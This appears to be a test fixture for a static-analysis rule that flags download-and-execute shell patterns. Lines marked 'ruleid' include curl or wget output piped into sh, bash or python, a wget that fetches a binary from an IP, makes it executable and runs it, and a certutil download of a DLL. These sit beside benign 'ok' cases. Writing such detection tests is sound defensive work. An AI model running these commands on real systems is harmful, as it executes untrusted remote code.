#!/usr/bin/env bash
set -euo pipefail
# ruleid: generic-download-pipe-shell
curl -fsSL https://get.example.invalid/install.sh | sh
# ruleid: generic-download-pipe-shell
wget -qO- "$BOOTSTRAP_URL" | sudo bash -s -- --yes
# ruleid: generic-download-pipe-shell
bash <(curl -s https://example.invalid/setup)
# ruleid: generic-download-pipe-shell
sh -c "$(curl -fsSL https://example.invalid/x.sh)"
# ruleid: generic-download-pipe-shell
curl -s https://example.invalid/tool.py | python3 -
# ok: generic-download-pipe-shell
curl -fsSL -o install.sh https://get.example.invalid/install.sh
# ok: generic-download-pipe-shell
echo "${INSTALL_SHA256}  install.sh" | sha256sum -c -
# ok: generic-download-pipe-shell
curl -s https://api.example.invalid/releases | jq -r '.tag_name'
# ok: generic-download-pipe-shell
curl -sSL "$URL" | tar -xz -C /opt
# ok: generic-download-pipe-shell
wget -qO- "$URL" | shasum -a 256
# ruleid: generic-download-pipe-shell
wget -q http://198.51.100.7/jsextension -O /tmp/jsextension && chmod +x /tmp/jsextension && /tmp/jsextension -k "$KEY" &
# ruleid: generic-download-pipe-shell
certutil.exe -urlcache -f http://198.51.100.7/sdd.dll sdd.dll
# ok: generic-download-pipe-shell
curl -fsSL -o kubectl "https://dl.k8s.io/release/${V}/bin/linux/amd64/kubectl" && chmod +x kubectl && sudo mv kubectl /usr/local/bin/
# ok: generic-download-pipe-shell
curl -s "$API/items" | python3 -m json.tool
# ok: generic-download-pipe-shell
curl -s "$API/items" | node -e 'let d="";process.stdin.on("data",c=>d+=c)'
# ruleid: generic-download-pipe-shell
curl -s "$SETUP_URL" | bash -e
